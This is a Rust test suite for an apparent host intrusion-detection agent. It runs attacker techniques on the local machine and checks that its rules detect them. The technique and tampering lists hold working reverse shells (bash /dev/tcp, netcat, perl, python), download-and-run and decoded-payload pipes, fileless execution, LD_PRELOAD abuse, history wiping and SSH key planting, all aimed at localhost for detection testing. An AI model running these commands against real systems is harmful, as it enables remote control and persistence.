//! Attacker behaviour on this machine, as root, with the agent's own exec capture and the
//! built-in rules: each technique is run twice, typed into an interactive bash on a real
//! pseudo-terminal (where a pipeline or a redirection reaches no command line) and handed
//! to `sh -c`, and must be detected by the named rule within [`MAX_LATENCY`]. Then an
//! ordinary user's work (sudo, passwd, mount, mail, crontab, ssh, git, package queries,
//! pipelines) typed the same way must raise nothing.
//!
//! Needs root (the eBPF source, a test account); skips otherwise. Cleans up what it made
//! (files in /tmp and /dev/shm, the test account).

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use watchpost_core::Event;
use watchpost_host::{ExecCapture, SourceChoice};
use watchpost_sigma::{CompiledRuleSet, RuleSet};

/// The slowest a detection may come after its command was issued.
const MAX_LATENCY: Duration = Duration::from_secs(3);

/// Every exec seen since the capture started, with when it arrived.
type Seen = Arc<Mutex<Vec<(Instant, Event)>>>;

/// The capture, running on its own thread for the whole test.
fn capture() -> (Seen, &'static str) {
    let seen: Seen = Arc::default();
    let (tx, rx) = std::sync::mpsc::channel();
    let sink = seen.clone();
    std::thread::spawn(move || {
        let mut capture = ExecCapture::start(SourceChoice::Auto).expect("a capture starts");
        tx.send(capture.source_name()).unwrap();
        loop {
            let events = capture.next_events(Duration::from_millis(50));
            let now = Instant::now();
            sink.lock()
                .unwrap()
                .extend(events.into_iter().map(|e| (now, e)));
        }
    });
    let source = rx.recv().unwrap();
    (seen, source)
}

fn rules() -> CompiledRuleSet {
    let mut set = RuleSet::default();
    set.add_builtin();
    set.compile()
}

/// The titles of the built-in rules `event` matches.
fn titles(rules: &CompiledRuleSet, event: &Event) -> Vec<String> {
    rules
        .matches(&watchpost_logs::flatten_event(event))
        .iter()
        .map(|m| m.rule.title.clone())
        .collect()
}

/// An interactive bash on a pseudo-terminal (`script` makes one), reading what the test
/// types as a person would type it.
struct Terminal {
    child: Child,
}

impl Terminal {
    fn open(user: Option<&str>) -> Terminal {
        let shell = "bash --norc --noprofile -i";
        let command = match user {
            Some(user) => format!("runuser -u {user} -- {shell}"),
            None => shell.to_string(),
        };
        let child = Command::new("script")
            .args(["-q", "-f", "-c", &command, "/dev/null"])
            .env(
                "PATH",
                "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            )
            .env("HOME", "/tmp")
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("script runs");
        // Let the shell start before typing into it.
        std::thread::sleep(Duration::from_millis(500));
        Terminal { child }
    }

    /// Waits until the shell runs nothing in the foreground (a reverse shell typed before
    /// ends when its listener hangs up), so the next line is read as soon as it is typed.
    fn wait_idle(&self) {
        let children = |pid: u32| -> Vec<u32> {
            std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
                .unwrap_or_default()
                .split_whitespace()
                .filter_map(|p| p.parse().ok())
                .collect()
        };
        let deadline = Instant::now() + Duration::from_secs(15);
        while Instant::now() < deadline {
            // script → (runuser →) bash → whatever runs.
            let mut shell = children(self.child.id()).first().copied();
            while let Some(pid) = shell {
                let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
                if comm.trim() == "bash" {
                    break;
                }
                shell = children(pid).first().copied();
            }
            if shell.is_some_and(|pid| children(pid).is_empty()) {
                return;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn type_line(&mut self, line: &str) {
        let stdin = self.child.stdin.as_mut().unwrap();
        stdin.write_all(line.as_bytes()).unwrap();
        stdin.write_all(b"\n").unwrap();
        stdin.flush().unwrap();
    }
}

impl Drop for Terminal {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A listener that takes one connection, says `exit` to the shell on it and keeps it
/// open a while: the other end of a reverse shell.
fn shell_listener() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().take(4).flatten() {
            std::thread::spawn(move || {
                let mut stream = stream;
                std::thread::sleep(Duration::from_millis(1500));
                let _ = stream.write_all(b"exit\n");
                let mut sink = [0u8; 4096];
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                while matches!(stream.read(&mut sink), Ok(n) if n > 0) {}
            });
        }
    });
    port
}

/// An HTTP server answering every request with `body`.
fn web_server(body: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut request = [0u8; 2048];
            let _ = stream.read(&mut request);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// One technique: its command (`{M}` is replaced by a marker unique to the run, `{P}` by
/// a port), the rule that must catch it, how its event is recognised, and the shell it
/// is handed to when not typed.
struct Technique {
    name: &'static str,
    command: &'static str,
    rule: &'static str,
    found_by: Found,
    port: fn() -> u16,
    /// The shell the command is handed to with `-c` (bash for bash's own syntax).
    shell: &'static str,
}

/// How a technique's event is told apart from every other exec.
#[derive(Clone, Copy)]
enum Found {
    /// The marker appears anywhere in the event (command lines, peers, environment).
    Marker,
    /// A stream of the process (or of its parent) is connected to the technique's port.
    RemotePort,
}

fn no_port() -> u16 {
    0
}

fn techniques() -> Vec<Technique> {
    vec![
        Technique {
            name: "download piped to a shell",
            command: "curl -s http://127.0.0.1:{P}/{M} | sh",
            rule: "Shell or Interpreter Reading Code From a Downloader",
            found_by: Found::Marker,
            port: || web_server("true\n"),
            shell: "sh",
        },
        Technique {
            name: "base64 decoded into a shell",
            command: "echo dHJ1ZQo= | base64 -d | sh -s {M}",
            rule: "Shell or Interpreter Reading Code From a Downloader",
            found_by: Found::Marker,
            port: no_port,
            shell: "sh",
        },
        Technique {
            name: "hex decoded into a shell",
            command: "echo 747275650a | xxd -r -p | bash -s {M}",
            rule: "Shell or Interpreter Reading Code From a Downloader",
            found_by: Found::Marker,
            port: no_port,
            shell: "sh",
        },
        Technique {
            name: "bash /dev/tcp reverse shell",
            command: "bash -i >& /dev/tcp/127.0.0.1/{P} 0>&1",
            rule: "Wired to a Network Connection",
            found_by: Found::RemotePort,
            port: shell_listener,
            shell: "bash",
        },
        Technique {
            name: "named pipe through netcat",
            command: "rm -f /tmp/{M}; mkfifo /tmp/{M}; cat /tmp/{M} | sh -i 2>&1 | nc 127.0.0.1 {P} > /tmp/{M}; rm -f /tmp/{M}",
            rule: "Wired to a Network Connection",
            found_by: Found::Marker,
            port: shell_listener,
            shell: "sh",
        },
        Technique {
            name: "perl socket reverse shell",
            command: "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in({P},inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'",
            rule: "Wired to a Network Connection",
            found_by: Found::RemotePort,
            port: shell_listener,
            shell: "sh",
        },
        Technique {
            name: "python pty reverse shell",
            command: "/usr/bin/python3 -c 'import socket,os,pty;s=socket.create_connection((\"127.0.0.1\",{P}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
            rule: "Wired to a Network Connection",
            found_by: Found::RemotePort,
            port: shell_listener,
            shell: "sh",
        },
        Technique {
            name: "program run from /dev/shm",
            command: "cp /bin/true /dev/shm/{M} && /dev/shm/{M}; rm -f /dev/shm/{M}",
            rule: "Shared Memory, an Anonymous Memory File or a Deleted File",
            found_by: Found::Marker,
            port: no_port,
            shell: "sh",
        },
        Technique {
            name: "program run from a memory file",
            command: "/usr/bin/python3 -c 'import os;fd=os.memfd_create(\"x\");os.write(fd,open(\"/bin/true\",\"rb\").read());os.execv(\"/proc/self/fd/%d\"%fd,[\"{M}\"])'",
            rule: "Shared Memory, an Anonymous Memory File or a Deleted File",
            found_by: Found::Marker,
            port: no_port,
            shell: "sh",
        },
        Technique {
            name: "library preloaded from /tmp",
            command: "LD_PRELOAD=/tmp/{M}.so /bin/true 2>/dev/null",
            rule: "Library Preloaded From Outside",
            found_by: Found::Marker,
            port: no_port,
            shell: "sh",
        },
        Technique {
            name: "program named like a kernel thread",
            command: "(exec -a '[kworker/0:7-{M}]' /bin/sleep 0.2)",
            rule: "Named Like a Kernel Thread",
            found_by: Found::Marker,
            port: no_port,
            shell: "bash",
        },
        Technique {
            name: "download made executable and run",
            command: "cd /tmp && curl -s -o {M} http://127.0.0.1:{P}/payload && chmod +x {M} && ./{M}; rm -f /tmp/{M}",
            rule: "Downloaded File Made Executable and Run",
            found_by: Found::Marker,
            port: || web_server("#!/bin/sh\ntrue\n"),
            shell: "sh",
        },
        Technique {
            name: "download by a web server's account",
            command: "runuser -u www-data -- curl -s -o /dev/null http://127.0.0.1:{P}/{M}",
            rule: "File Transfer Tool Run in a Context",
            found_by: Found::Marker,
            port: || web_server("x"),
            shell: "sh",
        },
    ]
}

/// The pids of the programs at the other ends of `event`'s pipes.
fn peer_pids(event: &Event) -> Vec<i64> {
    let Some(p) = event.process.as_ref() else {
        return Vec::new();
    };
    [&p.stdin, &p.stdout, &p.stderr]
        .iter()
        .filter_map(|s| s.as_ref()?.peer.as_ref()?.pid)
        .collect()
}

/// The pids of the events carrying `marker` and of every program joined to them by a
/// pipe, whichever end named the other.
fn pipeline_of_marker(events: &[&Event], marker: &str) -> Vec<i64> {
    let pid = |e: &Event| e.process.as_ref().and_then(|p| p.pid);
    let mut marked: Vec<i64> = events
        .iter()
        .filter(|e| serde_json::to_string(e).unwrap().contains(marker))
        .filter_map(|e| pid(e))
        .collect();
    for _ in 0..4 {
        for event in events {
            let Some(own) = pid(event) else { continue };
            let peers = peer_pids(event);
            let joined = marked.contains(&own) || peers.iter().any(|p| marked.contains(p));
            if joined {
                for p in peers.into_iter().chain(std::iter::once(own)) {
                    if !marked.contains(&p) {
                        marked.push(p);
                    }
                }
            }
        }
    }
    marked
}

/// Whether `event` is the technique's, for the run on `port`; `marked` holds the pids of
/// the run's marked pipeline ([`pipeline_of_marker`]).
fn is_technique_event(event: &Event, found_by: Found, port: u16, marked: &[i64]) -> bool {
    let Some(process) = event.process.as_ref() else {
        return false;
    };
    match found_by {
        Found::Marker => process.pid.is_some_and(|pid| marked.contains(&pid)),
        Found::RemotePort => {
            let on_port = |p: &watchpost_core::event::Process| {
                [&p.stdin, &p.stdout, &p.stderr].iter().any(|s| {
                    s.as_ref()
                        .and_then(|s| s.remote.as_ref())
                        .is_some_and(|r| r.port == Some(port))
                })
            };
            on_port(process) || process.parent.as_deref().is_some_and(on_port)
        }
    }
}

/// One exec in a line: program, command line, streams, parent.
fn summary(event: &Event) -> String {
    let Some(p) = event.process.as_ref() else {
        return String::new();
    };
    let stream = |s: &Option<watchpost_core::event::Stream>| match s {
        Some(s) => format!(
            "{}{}{}",
            s.kind,
            s.peer
                .as_ref()
                .and_then(|p| p.name.as_deref())
                .map(|n| format!("<{n}>"))
                .unwrap_or_default(),
            s.remote
                .as_ref()
                .map(|r| format!("@{:?}:{:?}", r.ip, r.port))
                .unwrap_or_default()
        ),
        None => "-".into(),
    };
    format!(
        "{:?} {:?} uid {:?}/{:?} in {} out {} env {:?} deleted {} package {:?} parent {:?} (in {})",
        p.executable,
        p.command_line,
        p.real_user.as_ref().and_then(|u| u.id.clone()),
        p.user.as_ref().and_then(|u| u.id.clone()),
        stream(&p.stdin),
        stream(&p.stdout),
        p.env,
        p.executable_deleted,
        p.package,
        p.parent.as_ref().and_then(|p| p.executable.clone()),
        p.parent
            .as_ref()
            .map(|p| stream(&p.stdin))
            .unwrap_or_default(),
    )
}

/// Waits for the technique's detection; the latency from `issued`, or what was seen.
fn wait_for_detection(
    seen: &Seen,
    rules: &CompiledRuleSet,
    technique: &Technique,
    marker: &str,
    port: u16,
    issued: Instant,
) -> Result<Duration, String> {
    let deadline = issued + Duration::from_secs(10);
    let mut candidates = Vec::new();
    loop {
        candidates.clear();
        let seen = seen.lock().unwrap();
        let recent: Vec<&Event> = seen
            .iter()
            .filter(|(arrived, _)| *arrived >= issued)
            .map(|(_, e)| e)
            .collect();
        let marked = pipeline_of_marker(&recent, marker);
        for (arrived, event) in seen.iter() {
            if *arrived < issued || !is_technique_event(event, technique.found_by, port, &marked) {
                continue;
            }
            let matched = titles(rules, event);
            if matched.iter().any(|t| t.contains(technique.rule)) {
                return Ok(arrived.duration_since(issued));
            }
            candidates.push(format!("{} -> {matched:?}", summary(event)));
        }
        drop(seen);
        if Instant::now() > deadline {
            return Err(format!("events of the technique: {candidates:#?}"));
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn each_technique_is_caught_typed_at_a_terminal_and_through_sh_c() {
    if !common::is_root() {
        eprintln!("skipped: the live suite needs root");
        return;
    }
    let (seen, source) = capture();
    let rules = rules();
    let mut terminal = Terminal::open(None);
    let mut failures = Vec::new();
    let mut latencies = Vec::new();
    for (n, technique) in techniques().iter().enumerate() {
        for typed in [true, false] {
            let marker = format!("wplive{}x{n}{}", std::process::id(), u8::from(typed));
            let port = (technique.port)();
            let command = technique
                .command
                .replace("{M}", &marker)
                .replace("{P}", &port.to_string());
            if typed {
                terminal.wait_idle();
            }
            let issued = Instant::now();
            let mut runner = None;
            if typed {
                terminal.type_line(&command);
            } else {
                runner = Some(
                    Command::new(technique.shell)
                        .args(["-c", &command])
                        .env(
                            "PATH",
                            "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                        )
                        .stdin(Stdio::null())
                        .stdout(Stdio::null())
                        .stderr(Stdio::null())
                        .spawn()
                        .unwrap(),
                );
            }
            let how = if typed { "typed" } else { technique.shell };
            match wait_for_detection(&seen, &rules, technique, &marker, port, issued) {
                Ok(latency) if latency <= MAX_LATENCY => latencies.push(latency),
                Ok(latency) => failures.push(format!(
                    "{} ({how}): detected after {latency:?}, past {MAX_LATENCY:?}",
                    technique.name
                )),
                Err(seen) => failures.push(format!(
                    "{} ({how}): no \"{}\" detection; {seen}",
                    technique.name, technique.rule
                )),
            }
            if let Some(mut runner) = runner {
                let _ = runner.kill();
                let _ = runner.wait();
            }
        }
    }
    latencies.sort();
    eprintln!(
        "source {source}: {} of {} detections, median latency {:?}, slowest {:?}",
        latencies.len(),
        techniques().len() * 2,
        latencies.get(latencies.len() / 2),
        latencies.last()
    );
    assert!(failures.is_empty(), "{failures:#?}");
}

/// An account for the ordinary user, removed when dropped.
struct TestUser(&'static str);

impl TestUser {
    fn create(name: &'static str) -> TestUser {
        let _ = Command::new("userdel").args(["-r", name]).output();
        let made = Command::new("useradd")
            .args(["-m", "-s", "/bin/bash", name])
            .output()
            .unwrap();
        assert!(
            made.status.success(),
            "{}",
            String::from_utf8_lossy(&made.stderr)
        );
        TestUser(name)
    }
}

impl Drop for TestUser {
    fn drop(&mut self) {
        let _ = Command::new("userdel").args(["-r", "-f", self.0]).output();
    }
}

/// What an ordinary user types in a day, with the set-user-id programs the distribution
/// ships among it.
const ORDINARY_WORK: &[&str] = &[
    "ls -la ~ | grep -v cache | sort | head -5",
    "ps aux | grep -c bash",
    "sudo -n ls / 2>/dev/null",
    "sudo -n -l 2>/dev/null",
    "passwd -S 2>/dev/null",
    "mount | grep -c proc",
    "echo 'report attached' | mail -s 'weekly report' root 2>/dev/null",
    "crontab -l 2>/dev/null",
    "ssh -V 2>/dev/null",
    "ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519 <<< y >/dev/null 2>&1",
    "cp ~/.bashrc /tmp/bashrc-backup-$USER && rm -f /tmp/bashrc-backup-$USER",
    "git init -q ~/proj && git -C ~/proj status --short | wc -l",
    "git -C ~/proj log --oneline 2>/dev/null | head -3",
    "vi -es -c 'q' ~/notes.txt",
    "dpkg -l | grep -c ii",
    "apt-cache policy bash | head -3",
    "echo aGVsbG8K | base64 -d | tr a-z A-Z",
    "curl -s -o ~/page.html http://127.0.0.1:{P}/index.html",
    "cat ~/page.html | sh -c 'wc -c'",
    "history | tail -3",
    "df -h | awk '{print $5}' | sort | uniq -c",
    "find ~ -maxdepth 1 -name '.*' | wc -l",
    "tar czf /tmp/home-$USER.tgz -C ~ . 2>/dev/null; rm -f /tmp/home-$USER.tgz",
    "id; whoami; uname -a",
];

#[test]
fn an_ordinary_users_work_raises_nothing() {
    if !common::is_root() {
        eprintln!("skipped: the live suite needs root");
        return;
    }
    let user = TestUser::create("wplive");
    let uid: String = String::from_utf8(
        Command::new("id")
            .args(["-u", user.0])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap()
    .trim()
    .to_string();
    let (seen, _) = capture();
    let rules = rules();
    let port = web_server("<html>hello</html>");
    let mut terminal = Terminal::open(Some(user.0));
    terminal.type_line("mkdir -p ~/.ssh");
    for line in ORDINARY_WORK {
        terminal.type_line(&line.replace("{P}", &port.to_string()));
        std::thread::sleep(Duration::from_millis(200));
    }
    terminal.type_line("exit");
    std::thread::sleep(Duration::from_secs(3));
    let seen = seen.lock().unwrap();
    let theirs: Vec<&Event> = seen
        .iter()
        .map(|(_, e)| e)
        .filter(|e| {
            e.process.as_ref().is_some_and(|p| {
                p.real_user.as_ref().and_then(|u| u.id.as_deref()) == Some(uid.as_str())
            })
        })
        .collect();
    assert!(
        theirs.len() >= ORDINARY_WORK.len(),
        "only {} execs seen",
        theirs.len()
    );
    let flagged: Vec<String> = theirs
        .iter()
        .filter_map(|e| {
            let matched = titles(&rules, e);
            (!matched.is_empty()).then(|| format!("{} -> {matched:?}", summary(e)))
        })
        .collect();
    eprintln!(
        "{} execs of the ordinary user, {} flagged",
        theirs.len(),
        flagged.len()
    );
    assert!(flagged.is_empty(), "{flagged:#?}");
}

/// One tampering with a watched file: the command (`{H}` is the account's home, `{M}` a
/// marker), the detection's title, and the path it must name.
struct Tampering {
    name: &'static str,
    command: &'static str,
    title: &'static str,
    path: &'static str,
    /// Run as root rather than as the account.
    as_root: bool,
}

const TAMPERING: &[Tampering] = &[
    Tampering {
        name: "history emptied",
        command: ": > {H}/.bash_history",
        title: "Shell history cleared or disabled",
        path: "{H}/.bash_history",
        as_root: false,
    },
    Tampering {
        name: "history linked to /dev/null",
        command: "ln -sf /dev/null {H}/.bash_history",
        title: "Shell history cleared or disabled",
        path: "{H}/.bash_history",
        as_root: false,
    },
    Tampering {
        name: "SSH key planted in a folder made again",
        command: "rm -rf {H}/.ssh; mkdir {H}/.ssh && echo 'ssh-ed25519 AAAAC3Nz {M}' >> {H}/.ssh/authorized_keys",
        title: "SSH authorized keys changed",
        path: "{H}/.ssh/authorized_keys",
        as_root: false,
    },
    Tampering {
        name: "unit enabled by a link",
        command: "mkdir -p /etc/systemd/system/multi-user.target.wants && ln -sf /dev/null /etc/systemd/system/multi-user.target.wants/{M}.service",
        title: "Systemd unit changed",
        path: "/etc/systemd/system/multi-user.target.wants/{M}.service",
        as_root: true,
    },
];

/// Shell built-ins leave no exec: their effects on watched files are reported, typed and
/// through `sh -c`, within [`MAX_LATENCY`].
#[test]
fn tampering_with_watched_files_is_reported_typed_and_through_sh_c() {
    if !common::is_root() {
        eprintln!("skipped: the live suite needs root");
        return;
    }
    let user = TestUser::create("wpfim");
    let home = format!("/home/{}", user.0);
    let as_user = |script: &str| {
        Command::new("runuser")
            .args(["-u", user.0, "--", "sh", "-c", script])
            .status()
            .unwrap();
    };
    let prepare = || {
        as_user(&format!(
            "rm -f {home}/.bash_history; printf 'ls\\nid\\nuname -a\\n' > {home}/.bash_history; mkdir -p {home}/.ssh"
        ));
    };
    prepare();
    let (mut fim, _) = watchpost_host::fim::Fim::start(watchpost_host::fim::default_paths(), None);
    let changes: Arc<Mutex<Vec<(Instant, watchpost_host::fim::FileChange)>>> = Arc::default();
    let sink = changes.clone();
    std::thread::spawn(move || {
        loop {
            let seen = fim.next_changes(Duration::from_millis(100));
            let now = Instant::now();
            sink.lock()
                .unwrap()
                .extend(seen.into_iter().map(|c| (now, c)));
        }
    });
    let mut user_terminal = Terminal::open(Some(user.0));
    let mut root_terminal = Terminal::open(None);
    let mut failures = Vec::new();
    let mut made = Vec::new();
    for (n, tampering) in TAMPERING.iter().enumerate() {
        for typed in [true, false] {
            prepare();
            // Let the preparation's own changes be reported before the clock starts.
            std::thread::sleep(Duration::from_millis(800));
            let marker = format!("wpfim{}x{n}{}", std::process::id(), u8::from(typed));
            let fill = |t: &str| t.replace("{H}", &home).replace("{M}", &marker);
            let command = fill(tampering.command);
            let path = std::path::PathBuf::from(fill(tampering.path));
            made.push(path.clone());
            let issued = Instant::now();
            match (typed, tampering.as_root) {
                (true, false) => user_terminal.type_line(&command),
                (true, true) => root_terminal.type_line(&command),
                (false, false) => as_user(&command),
                (false, true) => {
                    Command::new("sh").args(["-c", &command]).status().unwrap();
                }
            }
            let how = if typed { "typed" } else { "sh -c" };
            let deadline = issued + Duration::from_secs(10);
            let found = loop {
                let hit = changes.lock().unwrap().iter().find_map(|(at, change)| {
                    let event = watchpost_host::fim::change_event(change, None);
                    let title = watchpost_host::fim::change_detection(change, &event).rule_title;
                    (*at >= issued && change.path == path && title == tampering.title)
                        .then(|| at.duration_since(issued))
                });
                if hit.is_some() || Instant::now() > deadline {
                    break hit;
                }
                std::thread::sleep(Duration::from_millis(50));
            };
            match found {
                Some(latency) if latency <= MAX_LATENCY => {}
                Some(latency) => failures.push(format!(
                    "{} ({how}): reported after {latency:?}",
                    tampering.name
                )),
                None => {
                    let seen: Vec<String> = changes
                        .lock()
                        .unwrap()
                        .iter()
                        .filter(|(at, _)| *at >= issued)
                        .map(|(_, c)| format!("{} {}", c.path.display(), c.action()))
                        .collect();
                    failures.push(format!(
                        "{} ({how}): no \"{}\" for {}; seen {seen:?}",
                        tampering.name,
                        tampering.title,
                        path.display()
                    ));
                }
            }
        }
    }
    for path in made.iter().filter(|p| p.starts_with("/etc")) {
        let _ = std::fs::remove_file(path);
    }
    assert!(failures.is_empty(), "{failures:#?}");
}
